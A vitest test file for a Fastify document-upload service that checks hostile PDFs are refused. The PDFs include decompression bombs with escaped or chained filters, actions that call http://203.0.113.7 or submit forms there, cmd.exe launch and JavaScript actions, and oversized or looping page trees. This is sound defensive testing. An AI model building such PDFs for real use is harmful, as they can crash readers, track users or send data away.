import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { DOCUMENT_ERRORS } from '../../shared/contract';
import type { Caller } from '../applications/testing/client';
import { translate } from '../i18n';
import { databases } from '../testing/harness';
import type { ObjectStorage } from '../storage/object-storage';
import { PDF_LIMITS } from './pdf-inspection';
import { applicantsAtDocuments, storedDocumentKeys, uploadUrl, useDocumentsTestApp } from './testing/app';
import { sendFile } from './testing/files';
import {
  asciiHex,
  deflated,
  lzwZeros,
  pdfWith,
  pdfWithPageReferences,
  pdfWithStream,
  zerosDeflated,
} from './testing/pdf-bombs';

/**
 * PDFs built to hurt whoever opens them, sent as an attacker sends them: decompression bombs through every filter
 * a reader expands (names escaped, filters chained, object streams), actions that open addresses, other files or
 * programs, and page trees of half a million pages. Each is refused with its message and nothing is stored, and
 * the server goes on answering meanwhile.
 */

const LANGUAGES = ['en', 'fr', 'pt', 'zh', 'ar'];

/** The measured bombs, each a few kilobytes expanding to 256 MiB or more: [name, file]. */
async function bombs(): Promise<[string, Buffer][]> {
  const quarterGiB = await zerosDeflated(256);
  const oneGiB = await zerosDeflated(1024);
  const lzw = lzwZeros(37);
  expect(lzw.expandsTo).toBeGreaterThan(256 * 1024 * 1024);
  return [
    ['Flate named with an escape (#61)', pdfWithStream('/Filter /Fl#61teDecode', quarterGiB, 'contents')],
    [
      'Flate twice in a filter array',
      pdfWithStream('/Filter [/FlateDecode /FlateDecode]', deflated(quarterGiB), 'contents'),
    ],
    ['Flate twice, to a gibibyte', pdfWithStream('/Filter [/FlateDecode /FlateDecode]', deflated(oneGiB), 'contents')],
    ['LZW', pdfWithStream('/Filter /LZWDecode', lzw.data, 'contents')],
    ['LZW in an object stream', pdfWithStream('/Filter /LZWDecode', lzw.data, 'object stream')],
    [
      'Flate twice in an object stream, its type and filters escaped',
      pdfWithStream('/Filter [/Fl#61teDecode /Flat#65Decode]', deflated(quarterGiB), 'object stream', '/Obj#53tm'),
    ],
    [
      'hexadecimal text of Flate of Flate',
      pdfWithStream('/Filter [/ASCIIHexDecode /FlateDecode /FlateDecode]', asciiHex(deflated(oneGiB)), 'contents'),
    ],
    [
      'run lengths inside Flate',
      pdfWithStream(
        '/Filter [/FlateDecode /RunLengthDecode]',
        deflated(Buffer.alloc(4 * 1024 * 1024).fill(Buffer.from([0x81, 0]))),
        'contents',
      ),
    ],
  ];
}

describe.each(databases())('hostile PDFs on %s', (kind) => {
  let app: FastifyInstance;
  let storage: ObjectStorage;
  let ana: Caller;
  useDocumentsTestApp(kind, (started) => ({ app, storage, ana } = started));
  let url: string;

  beforeAll(async () => {
    const { applicationId, applicantIds } = await applicantsAtDocuments(app, ana);
    url = uploadUrl(applicationId, applicantIds[0], 'OTHER');
  });

  const send = (data: Buffer, lang = 'en') => sendFile(app, ana, 'POST', url, data, 'statement.pdf', lang);

  /** Sends a file that must be refused with `code` and its message in `lang`, leaving storage as it was. */
  async function expectRefused(data: Buffer, code: string, what: string, lang = 'en'): Promise<LightMyRequestResponse> {
    const before = await storedDocumentKeys(storage);
    const response = await send(data, lang);
    expect(response.statusCode, `${what}: ${response.body}`).toBe(422);
    expect(response.json().code, what).toBe(code);
    expect(await storedDocumentKeys(storage)).toEqual(before);
    return response;
  }

  it('refuses every measured decompression bomb, whatever filters, escapes and layers it hides behind', async () => {
    for (const [what, file] of await bombs()) {
      expect(file.length, what).toBeLessThan(300_000);
      await expectRefused(file, DOCUMENT_ERRORS.unreadable, what);
    }
  }, 120_000);

  it('keeps answering other requests while a bomb is checked', async () => {
    const bomb = pdfWithStream('/Filter [/FlateDecode /FlateDecode]', deflated(await zerosDeflated(1024)), 'contents');
    await send(pdfWith('')); // a worker started and ready, so that only the bomb's check is measured
    let settled = false;
    const upload = send(bomb).finally(() => {
      settled = true;
    });
    let answered = 0;
    let answeredWhileChecking = 0;
    while (!settled) {
      // A client's next request comes a little later (and the server's other events get their turn).
      await new Promise((resolve) => setTimeout(resolve, 10));
      const health = await app.inject({ method: 'GET', url: '/health' });
      expect(health.statusCode).toBe(200);
      answered += 1;
      if (!settled) answeredWhileChecking += 1;
    }
    expect((await upload).statusCode).toBe(422);
    // The check ran beside the answers, not in front of them.
    expect(answeredWhileChecking).toBeGreaterThan(0);
    expect(answered).toBeGreaterThanOrEqual(answeredWhileChecking);
  }, 60_000);

  it('refuses actions that open an address or another file, launch or run anything, however their names are written', async () => {
    const link = (action: string) =>
      pdfWith('', '/Annots [4 0 R]', [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`]);
    const files: [string, Buffer][] = [
      ['an address opened on opening', pdfWith('/OpenAction << /S /URI /URI (http://203.0.113.7/track) >>')],
      [
        'a UNC file opened on opening',
        pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\x.pdf) /D [0 /Fit] >>'),
      ],
      ['an embedded file opened on opening', pdfWith('/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>')],
      ['a link to an address', link('<< /S /URI /URI (https://example.com/) >>')],
      ['a link to another file', link('<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>')],
      ['a link that launches a program', link('<< /S /Launch /F (cmd.exe) >>')],
      ['a link that runs a script', link('<< /S /JavaScript /JS (app.alert(1)) >>')],
      ['an address, its action name escaped', pdfWith('/OpenAction << /S /U#52I /URI (http://203.0.113.7/) >>')],
      ['a script, its names escaped', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')],
      ['an event action on the page', pdfWith('', '/AA << /O << /S /URI /URI (http://203.0.113.7/) >> >>')],
      ['a form submitted away', link('<< /S /SubmitForm /F (http://203.0.113.7/collect) >>')],
    ];
    for (const [what, file] of files) await expectRefused(file, DOCUMENT_ERRORS.activeContent, what);
    // Moving within the document is no action of that kind: opening at the first page, a link to a page.
    const inside = pdfWith('/OpenAction [3 0 R /Fit]', '/Annots [4 0 R]', [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    ]);
    expect((await send(inside)).statusCode).toBe(201);
  });

  it('refuses more pages than the limit, saying so in every language, and takes as many as the limit', async () => {
    for (const lang of LANGUAGES) {
      const response = await expectRefused(
        pdfWithPageReferences(PDF_LIMITS.pages + 1),
        DOCUMENT_ERRORS.tooManyPages,
        `${lang} ${PDF_LIMITS.pages + 1} pages`,
        lang,
      );
      const key = 'documents:api.DOCUMENT_TOO_MANY_PAGES';
      const message = translate(lang, key, { pages: PDF_LIMITS.pages.toLocaleString(lang) });
      expect(response.json()).toMatchObject({ error: message, fields: [{ field: 'file', key, message }] });
      expect(message).toContain(PDF_LIMITS.pages.toLocaleString(lang));
    }
    // Half a million references to one page, three megabytes: counted no further than the limit.
    const halfMillion = pdfWithPageReferences(500_000);
    await expectRefused(halfMillion, DOCUMENT_ERRORS.tooManyPages, '500,000 page references');
    expect((await send(pdfWithPageReferences(PDF_LIMITS.pages))).statusCode).toBe(201);
  }, 60_000);

  it('refuses a PDF whose page tree loops, and one that declares an image too large to open', async () => {
    const loop = pdfWith('', '', []).toString('latin1').replace('/Kids [3 0 R]', '/Kids [3 0 R 2 0 R]');
    await expectRefused(Buffer.from(loop, 'latin1'), DOCUMENT_ERRORS.unreadable, 'a looping page tree');
    const image = pdfWith('', '/Resources << /XObject << /Im1 4 0 R >> >>', [
      '<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 >>\nstream\n\nendstream',
    ]);
    await expectRefused(image, DOCUMENT_ERRORS.unreadable, 'an image of ten billion pixels');
  });
});
